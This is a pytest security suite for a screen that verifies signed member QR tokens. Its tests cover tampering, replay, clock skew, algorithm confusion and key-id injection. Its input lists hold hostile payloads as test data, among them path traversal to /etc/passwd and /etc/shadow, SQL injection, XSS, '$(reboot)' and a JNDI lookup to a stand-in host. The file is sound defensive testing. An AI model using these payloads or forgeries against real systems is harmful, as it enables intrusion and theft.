"""Forged, changed, replayed and foreign texts, held against what a screen shows and the ledger says (T3, T4)."""

from __future__ import annotations

import hashlib
import hmac
import random
from collections.abc import Callable
from dataclasses import replace

import cbor2
import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from edge.config import Screen
from edge.demo.phone import PAYMENT
from edge.members import base45
from edge.members.classify import Context
from edge.members.clock import ClockState, time_of
from edge.members.issue import issue, pack
from edge.members.keyset import kid_of
from edge.members.mc1 import MAX_CHARS, PREFIX, to_be_signed, unseal
from edge.model import DeviceClass, Level
from tests.members.a_counter import CARD, LOWEST, NEVER, SUB, Counter, deciding, profile

IAT, EXP = 1_790_000_000, 1_790_000_660
VICTIM, ATTACKER = 0b00111, 0b00000

Signs = Callable[[bytes], bytes]


def before(context: Context, device: DeviceClass = DeviceClass.KIOSK, spent: set[bytes] | None = None) -> Counter:
    """A screen that knows everything of the member whose token is attacked."""
    used = spent if spent is not None else set()
    counter = Counter(Screen(id="s", device_class=device, nickname=True), deciding(context, used), profile())
    counter.spent = used
    return counter


def unmoved(counter: Counter) -> None:
    """The screen shows nothing of anybody and no reason; no profile was asked for, nobody came into the ledger."""
    assert (counter.shown.scene in ("loop", "notice"), counter.shown.session, counter.asked) == (True, "", [])
    assert counter.shown.values.get("hint", "again") in ("again", "ask")
    assert [canary for canary in (*LOWEST, *NEVER) if counter.dom.holds(canary)] == []
    assert all(contact.kind == "scan" and not contact.member for contact in counter.contacts)
    assert all(contact.data.keys() == {"outcome", "reason", "eye"} for contact in counter.contacts)
    assert all(contact.data["outcome"] == "rejected" for contact in counter.contacts)


def token(issuer: Ed25519PrivateKey, flags: int = VICTIM, exp: int = EXP, cti: bytes = b"cti!") -> str:
    return issue(issuer, SUB, IAT, exp, flags, 3, (7, 8), cti)


def changed(dice: random.Random, good: str, other: str) -> str:
    """A token that somebody tampered with: signs, bits, lengths, or parts of another token."""
    cose, alien = bytearray(base45.decode(good[4:])), base45.decode(other[4:])
    at = dice.randrange(len(cose))
    match dice.randrange(9):
        case 0:
            return good[: (spot := dice.randrange(4, len(good)))] + dice.choice(base45.ALPHABET) + good[spot + 1 :]
        case 1:
            return good[: dice.randrange(4, len(good))]
        case 2:
            return good + "".join(dice.choices(base45.ALPHABET, k=dice.randrange(1, 9)))
        case 3:
            cose[at] ^= 1 << dice.randrange(8)
        case 4:
            cose[at : at + dice.randrange(1, 5)] = dice.randbytes(dice.randrange(5))
        case 5:
            cose[at:] = alien[at:]
        case 6:
            first, second = sorted(dice.sample(range(len(cose)), 2))
            cose[first], cose[second] = cose[second], cose[first]
        case 7:
            cose[-64:] = dice.randbytes(64)
        case _:
            spot = dice.randrange(4, len(good) - 1)
            return good[:spot] + good[spot + 1] + good[spot] + good[spot + 2 :]
    return PREFIX + base45.encode(bytes(cose))


@pytest.mark.promise("M-2")
@pytest.mark.parametrize("seed", range(10))
async def test_of_ten_thousand_changed_tokens_none_shows_anything(
    seed: int, context: Context, issuer: Ed25519PrivateKey
) -> None:
    """Parts of the attacker's own good token are among the changes: its claims, its signature."""
    dice, counter = random.Random(seed), before(context)
    good, other = token(issuer), issue(issuer, "attackersub_", IAT, EXP, ATTACKER, 3, (7, 8), b"cti2")
    for _ in range(1000):
        if (text := changed(dice, good, other)) not in (good, other):
            await counter.scan(text)
            assert counter.shown.scene == "notice"
    unmoved(counter)
    assert (len(counter.contacts) > 900, counter.spent) == (True, set())


def sealed(good: str, protected: bytes, sign: Signs) -> str:
    """The good token's claims under another header and another signature."""
    payload = unseal(good).payload
    return PREFIX + base45.encode(cbor2.dumps([protected, {}, payload, sign(to_be_signed(protected, payload))]))


def header(alg: object, kid: object) -> bytes:
    return cbor2.dumps({1: alg, 4: kid})


def by_hmac(secret: bytes) -> Signs:
    return lambda signed: hmac.digest(secret, signed, hashlib.sha512)


def by_p256(signed: bytes) -> bytes:
    r, s = decode_dss_signature(ec.generate_private_key(ec.SECP256R1()).sign(signed, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32) + s.to_bytes(32)


CONFUSED: dict[str, Callable[[bytes, bytes], tuple[bytes, Signs]]] = {
    "HS256 with the public key as its secret": lambda kid, public: (header(5, kid), by_hmac(public)),
    "HS512 with the public key as its secret": lambda kid, public: (header(7, kid), by_hmac(public)),
    "EdDSA named, HMAC made": lambda kid, public: (header(-19, kid), by_hmac(public)),
    "ES256 by a key of one's own": lambda kid, _: (header(-7, kid), by_p256),
    "EdDSA named, ECDSA made": lambda kid, _: (header(-8, kid), by_p256),
    "none": lambda kid, _: (header("none", kid), lambda _: b""),
    "none, with an empty name": lambda kid, _: (header("", kid), lambda _: bytes(64)),
    "the algorithm 0": lambda kid, _: (header(0, kid), lambda _: bytes(64)),
    "no algorithm": lambda kid, _: (cbor2.dumps({4: kid}), lambda _: bytes(64)),
    "no header": lambda _, __: (b"", lambda _: bytes(64)),
    "Ed25519, all zero": lambda kid, _: (header(-19, kid), lambda _: bytes(64)),
    "a critical header": lambda kid, _: (cbor2.dumps({1: -19, 2: [4], 4: kid}), lambda _: bytes(64)),
    "the algorithm twice": lambda kid, _: (b"\xa3\x01\x32\x01\x05\x04\x44" + kid, lambda _: bytes(64)),
}
KIDS: tuple[object, ...] = (
    b"../k", b"/dev", b"' OR", b"';--", b"%00\n", b"\0\0\0\0", b"", b"k", b"../../../../etc/passwd", b"' OR '1'='1", 0,
    -1, "../k", None, [], {}, "http://x.example/k.pem",
)  # fmt: skip


@pytest.mark.promise("M-2")
@pytest.mark.parametrize("attack", CONFUSED)
async def test_no_other_algorithm_is_believed(attack: str, context: Context, issuer: Ed25519PrivateKey) -> None:
    counter, public = before(context), issuer.public_key().public_bytes_raw()
    protected, sign = CONFUSED[attack](kid_of(public), public)
    await counter.scan(sealed(token(issuer), protected, sign))
    unmoved(counter)
    assert len(counter.contacts) == 1


@pytest.mark.promise("M-2")
@pytest.mark.parametrize("swap", [(-19, -8), (-8, -19)])
async def test_an_algorithms_name_cannot_be_swapped_after_the_signature(
    swap: tuple[int, int], context: Context, issuer: Ed25519PrivateKey
) -> None:
    real, said = swap
    good, kid = issue(issuer, SUB, IAT, EXP, VICTIM, alg=real), kid_of(issuer.public_key().public_bytes_raw())
    counter = before(context)
    await counter.scan(sealed(good, header(said, kid), lambda _: unseal(good).signature))
    unmoved(counter)
    await counter.scan(good)
    assert counter.shown.level is Level.SEGMENT


@pytest.mark.promise("M-2")
@pytest.mark.parametrize("kid", KIDS)
async def test_a_key_is_found_by_its_four_bytes_and_opens_nothing_else(
    kid: object, context: Context, issuer: Ed25519PrivateKey
) -> None:
    counter = before(context)
    await counter.scan(sealed(token(issuer), header(-19, kid), issuer.sign))
    unmoved(counter)


@pytest.mark.promise("M-2")
async def test_a_key_of_ones_own_under_the_issuers_name_is_refused(context: Context, issuer: Ed25519PrivateKey) -> None:
    own, kid = Ed25519PrivateKey.generate(), kid_of(issuer.public_key().public_bytes_raw())
    counter = before(context)
    await counter.scan(sealed(token(issuer), header(-19, kid), own.sign))
    await counter.scan(token(own))
    unmoved(counter)
    assert [contact.data["reason"] for contact in counter.contacts] == ["signature", "unknown_key"]


FOREIGN = (
    "", " ", "\0", "mc1:A", " MC1:A", "\ufeffMC1:A", "\u202eMC1:A", "МС1:A", "MC1", "MC2:A", "HC1:NCFOXN",
    "javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "file:///etc/shadow",
    "https://x.example/?a=MC1:", PAYMENT, "00020101021126580014jp.or.example", "WIFI:T:WPA;S:net;P:word;;",
    "BEGIN:VCARD\nFN:A\nEND:VCARD", "SELECT * FROM spent; --", "' OR '1'='1", "{{ 7*7 }}", "${jndi:ldap://x.example/a}",
    "../../../../etc/passwd", "%00%0a", "\x1b[2J", "A" * 4296, "7" * 7089, "🛒" * 40, "\udc80\udcff", "\u0301" * 99,
    CARD + "\n", CARD + "\0", "\u202e" + CARD, CARD[:-1] + "7", "２９１２３４５６７８９０６", "٢٩١٢٣٤٥٦٧٨٩٠٦",
    CARD * 5, f"s1.{CARD}",
)  # fmt: skip
NEARLY = (
    "", "\0", "A\0", "a", "\u202e6BF", "\u2066B", "é", "🛒", "../../etc/passwd", "javascript:alert(1)", "' OR 1=1 --",
    "<script>alert(1)</script>", "6BF" * 63, "6BF" * 64, "0" * (MAX_CHARS - 3), "0" * 10_000, "ZZZ", ":::", "\n", "%%%",
    "MC1:MC1:", " ", "\udc80", "{{ config }}", "$(reboot)", "A" * 191,
)  # fmt: skip


@pytest.mark.promise("M-2")
@pytest.mark.promise("X-3")
@pytest.mark.parametrize("symbology", ["qrcode", "ean13"])
async def test_what_is_no_members_code_moves_nothing_and_is_told_to_nobody(
    symbology: str, context: Context, caplog: pytest.LogCaptureFixture
) -> None:
    counter = before(context)
    for text in FOREIGN:
        await counter.scan(text, symbology)
    assert (counter.shows, counter.contacts, counter.asked, counter.spent) == ([], [], [], set())
    assert caplog.text == ""


@pytest.mark.promise("M-2")
@pytest.mark.promise("X-3")
async def test_what_only_begins_like_a_token_is_refused_and_echoed_nowhere(
    context: Context, caplog: pytest.LogCaptureFixture
) -> None:
    counter = before(context)
    for rest in NEARLY:
        await counter.scan(PREFIX + rest)
        unmoved(counter)
    assert {contact.data["reason"] for contact in counter.contacts} <= {"encoding", "size", "oversize", "cbor"}
    assert caplog.text == ""


@pytest.mark.promise("M-2")
@pytest.mark.parametrize("symbology", ["ean13", "code128", "code39", "codabar", "itf"])
async def test_a_token_counts_in_a_qr_code_alone(symbology: str, context: Context, issuer: Ed25519PrivateKey) -> None:
    counter = before(context)
    await counter.scan(token(issuer), symbology)
    assert (counter.shows, counter.contacts) == ([], [])


@pytest.mark.promise("M-2")
async def test_a_screen_answers_a_forged_an_expired_a_replayed_and_a_denied_token_alike(
    context: Context, issuer: Ed25519PrivateKey
) -> None:
    good = token(issuer)
    forged = PREFIX + base45.encode(base45.decode(good[4:])[:-1] + b"\0")
    late, denying = replace(context, now=EXP + 31), replace(context, denied=frozenset({SUB}))
    pages = []
    for where, text in (
        (context, forged),
        (late, good),
        (replace(context, spent=lambda _: True), good),
        (denying, good),
    ):
        counter = before(where)
        counter = counter if where.spent(b"") is False else before(where, spent=Everything())
        await counter.scan(text)
        pages.append((counter.html, replace(counter.shown, values=dict(counter.shown.values)), len(counter.shows)))
    assert [page == pages[0] for page in pages] == [True] * 4
    assert "notice" in pages[0][0]


class Everything(set[bytes]):
    """All tokens are used up."""

    def __contains__(self, _: object) -> bool:
        return True


@pytest.mark.promise("M-2")
@pytest.mark.parametrize("device", DeviceClass)
async def test_a_token_is_refused_once_its_session_ended(
    device: DeviceClass, context: Context, issuer: Ed25519PrivateKey
) -> None:
    counter = before(context, device)
    await counter.scan(token(issuer))
    assert counter.shown.level is Level.SEGMENT
    await counter.end()
    told = len(counter.contacts)
    await counter.wait(600.0)
    await counter.scan(token(issuer))
    counter.contacts, counter.asked = counter.contacts[told:], []
    unmoved(counter)
    assert [contact.data["reason"] for contact in counter.contacts] == ["replay"]


@pytest.mark.promise("M-2")
async def test_a_token_in_use_on_one_screen_is_refused_on_the_next_and_the_first_goes_on(
    context: Context, issuer: Ed25519PrivateKey
) -> None:
    used: set[bytes] = set()
    first, second = before(context, spent=used), before(context, DeviceClass.SIGNAGE, spent=used)
    await first.scan(token(issuer))
    session = first.shown.session
    await second.scan(token(issuer))
    unmoved(second)
    await first.scan(token(issuer))
    assert (first.shown.session, first.shown.level) == (session, Level.SEGMENT)


@pytest.mark.promise("M-2")
@pytest.mark.parametrize(
    ("later", "reason"), [(29, "replay"), (60, "replay"), (70, "replay"), (91, "expired"), (7_200, "expired")]
)
async def test_a_screenshot_shows_nothing_after_its_owner_used_the_code(
    later: int, reason: str, context: Context, issuer: Ed25519PrivateKey
) -> None:
    """A token is good for a minute and half a minute of skew; 70 s later nothing but the memory of its use helps."""
    used: set[bytes] = set()
    owner = before(replace(context, now=EXP - 60), spent=used)
    await owner.scan(token(issuer))
    await owner.end()
    thief = before(replace(context, now=EXP - 60 + later), spent=used)
    await thief.scan(token(issuer))
    unmoved(thief)
    assert [contact.data["reason"] for contact in thief.contacts] == [reason]


@pytest.mark.promise("M-2")
@pytest.mark.parametrize(
    ("off", "reason"), [(600, "expired"), (-600, "not_yet"), (31 + 30, "expired"), (-91, "not_yet")]
)
@pytest.mark.parametrize("clock", [ClockState.SYNCED, ClockState.HOLDOVER])
async def test_with_a_clock_that_is_wrong_by_more_than_the_skew_nothing_is_shown(
    clock: ClockState, off: int, reason: str, context: Context, issuer: Ed25519PrivateKey
) -> None:
    counter = before(replace(context, now=EXP - 30 + off, clock=clock))
    await counter.scan(token(issuer))
    unmoved(counter)
    assert [contact.data["reason"] for contact in counter.contacts] == [reason]


@pytest.mark.promise("M-2")
@pytest.mark.parametrize("rtc", [0, EXP - 600, EXP - 86_400])
async def test_a_clock_that_was_set_back_brings_no_used_token_back(
    rtc: int, context: Context, issuer: Ed25519PrivateKey
) -> None:
    """Without sync a token counts as a number on a card at most, and the highest time ever seen is a floor."""
    used: set[bytes] = set()
    owner = before(context, spent=used)
    await owner.scan(token(issuer))
    await owner.end()
    now = time_of(ClockState.FLOOR, rtc, highest_iat=IAT)
    assert now >= IAT
    thief = before(replace(context, now=now, clock=ClockState.FLOOR), spent=used)
    await thief.scan(token(issuer))
    unmoved(thief)
    assert thief.contacts[0].data["reason"] == "replay"
    await thief.scan(token(issuer, exp=EXP + 60))
    assert thief.shown.level is Level.MEMBERS


@pytest.mark.promise("M-2")
async def test_a_phone_that_plays_a_whole_pack_is_one_member_at_most_and_never_again(
    context: Context, issuer: Ed25519PrivateKey
) -> None:
    tokens = [text for _, text in pack(issuer, SUB, IAT, VICTIM, 3, (7,))]
    counter = before(replace(context, now=IAT + 3_600))
    for text in tokens:
        await counter.scan(text)
    accepted = [contact for contact in counter.contacts if contact.data.get("outcome") == "accepted"]
    assert 1 <= len(accepted) <= 3
    assert len({show.session for show in counter.shows if show.session}) <= 3
    await counter.end()
    counter.contacts.clear()
    for text in tokens:
        await counter.scan(text)
    assert {contact.data.get("outcome") for contact in counter.contacts} == {"rejected"}


@pytest.mark.promise("M-2")
async def test_a_token_typed_by_a_scanner_under_a_wrong_keyboard_is_simply_refused(
    context: Context, issuer: Ed25519PrivateKey
) -> None:
    """A US scanner on a Japanese keyboard, and on German and French ones (MEMBER_CODES 7)."""
    layouts = (
        str.maketrans({":": "+", "*": "(", "+": "~"}),
        str.maketrans({":": "Ö", "/": "-", "-": "ß", "+": "`", "*": "(", "Y": "Z", "Z": "Y"}),
        str.maketrans({":": "M", ".": ":", "/": "!", "-": ")", "*": "8", "A": "Q", "Q": "A", "1": "&", "2": "é"}),
    )
    counter = before(context)
    for layout in layouts:
        await counter.scan(token(issuer).translate(layout))
        await counter.scan(PREFIX + token(issuer)[4:].translate(layout))
    unmoved(counter)
    assert counter.spent == set()


@pytest.mark.parametrize(("flags", "marked"), [(0b10111, True), (0b00111, False)])
async def test_whatever_happens_in_a_tests_session_says_so_and_the_next_members_does_not(
    flags: int, marked: bool, context: Context, issuer: Ed25519PrivateKey
) -> None:
    counter = before(context)
    await counter.scan(token(issuer, flags))
    await counter.touch("product", "everybody-sku")
    await counter.hold("04901234567894")
    await counter.scan(issue(issuer, "someone-else", IAT, EXP, VICTIM, 3, (7, 8)))
    mine = [contact.kind for contact in counter.contacts if contact.data.get("test")]
    expected = ["scan", "session_start", "identify", "product_touched", "scan", "session_end"]
    assert mine == (expected if marked else [])
    assert [contact.kind for contact in counter.contacts[-3:]] == ["session_end", "session_start", "identify"]
